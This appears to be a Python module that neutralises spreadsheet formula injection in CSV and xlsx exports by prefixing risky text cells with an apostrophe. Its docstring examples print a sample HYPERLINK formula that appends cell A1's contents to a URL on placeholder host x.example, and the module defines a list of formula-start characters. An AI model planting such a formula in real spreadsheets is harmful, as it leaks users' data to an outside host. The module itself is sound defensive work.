"""Text cells that a spreadsheet never runs as a formula (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula, and a leading tab or carriage return can hide such a start; a curated or
user-supplied text like ``=HYPERLINK("http://…"&A1,"x")`` would become a live formula in
a workbook or in a CSV opened in Excel. Following the OWASP guidance, every such text is
written with a leading apostrophe (``'``), which the reader sees and no spreadsheet
evaluates. Numbers stay numbers: only text values are touched, so a negative population
or a coordinate in a number column is written as it is.

:func:`safe_frame` is applied by every writer of tables for people and scripts:
:func:`~wirgeo.exports.workbook.write_workbook` (every xlsx: summary, plan, tables) and
:func:`~wirgeo.exports.tables.write_table` for CSV (eligibility, plan, the demo's set,
``wirgeo data compare``).

Examples
--------
>>> safe_text('=HYPERLINK("http://x.example/?"&A1,"x")')
'\\'=HYPERLINK("http://x.example/?"&A1,"x")'
>>> safe_text("-5"), safe_text(-5), safe_text("Vogelsbergkreis")
("'-5", -5, 'Vogelsbergkreis')
>>> import pandas as pd
>>> safe_frame(pd.DataFrame({"name": ["@SUM(A1)", "Alsfeld"], "population": [-1, 16_000]}
...                         )).to_dict("list")
{'name': ["'@SUM(A1)", 'Alsfeld'], 'population': [-1, 16000]}
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "safe_text", "safe_frame"]

#: Leading characters a spreadsheet may take for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: Any) -> Any:
    """``value`` with an apostrophe in front if it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are :func:`safe_text`.

    Only object/string columns are looked at; number, boolean, date and geometry columns
    are returned unchanged. The frame passed in is never modified.
    """
    columns = [c for c in frame.columns
               if (frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c])
                   or isinstance(frame[c].dtype, pd.CategoricalDtype))
               and c != getattr(frame, "_geometry_column_name", None)]
    risky = [c for c in columns
             if frame[c].map(lambda v: isinstance(v, str) and v.startswith(FORMULA_STARTS)
                             ).any()]
    renamed = {c: safe_text(c) for c in frame.columns if safe_text(c) != c}
    if not risky and not renamed:
        return frame
    out = frame.copy()
    for column in risky:
        out[column] = out[column].map(safe_text)
    return out.rename(columns=renamed) if renamed else out
